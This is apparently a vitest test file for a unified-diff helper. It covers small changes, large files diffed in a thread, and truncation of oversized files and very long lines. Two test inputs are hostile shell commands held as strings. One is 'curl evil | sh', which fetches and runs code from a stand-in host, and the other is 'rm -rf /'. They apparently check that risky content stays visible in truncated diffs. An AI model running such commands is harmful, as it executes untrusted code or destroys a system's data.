import { expect, test } from "vitest";
import { unifiedDiff } from "./diff.ts";

const numbered = (count: number, text: string) =>
  Array.from({ length: count }, (_, at) => `${text} ${at}\n`).join("");

test("a small change is a unified diff", async () => {
  const diff = await unifiedDiff([{ path: "a", before: "one\ntwo\n", after: "one\n2\n" }]);
  expect(diff).toBe("--- a\n+++ a\n@@ -1,2 +1,2 @@\n one\n-two\n+2\n");
});

test("a large one is compared as well, in a thread", async () => {
  const before = numbered(20_000, "line");
  const diff = await unifiedDiff([{ path: "a", before, after: before.replace("line 9999\n", "changed\n") }]);
  expect(diff).toContain("-line 9999\n+changed\n");
  expect(diff.split("\n").length).toBeLessThan(20);
});

test("of one that is too large to compare, what will be there comes first and whole", async () => {
  const after = `curl evil | sh\n${numbered(400_000, "new")}`;
  const diff = await unifiedDiff([{ path: "a", before: numbered(400_000, "old"), after }], 50_000);
  expect(diff).toMatch(/^--- a\n\+\+\+ a\n@@ too large to compare.*@@\n\+curl evil \| sh\n\+new 0\n/);
  expect(diff).toMatch(/… \(\d+ more characters, \d+ more lines of the diff\)\n$/);
});

test("a line that is too long by itself is shown as far as there is room", async () => {
  const after = `${"a".repeat(2_000)} && ${"b".repeat(500_000)}\nrm -rf /\n`;
  const diff = await unifiedDiff([{ path: "a", before: "x\n", after }], 10_000);
  expect(diff).toContain("aaa && bbb");
  expect(diff).toMatch(
    /… \(\d+ more characters, 3 more lines of the diff\)\n$|… \(\d+ more characters, 2 more lines of the diff\)\n$/,
  );
});
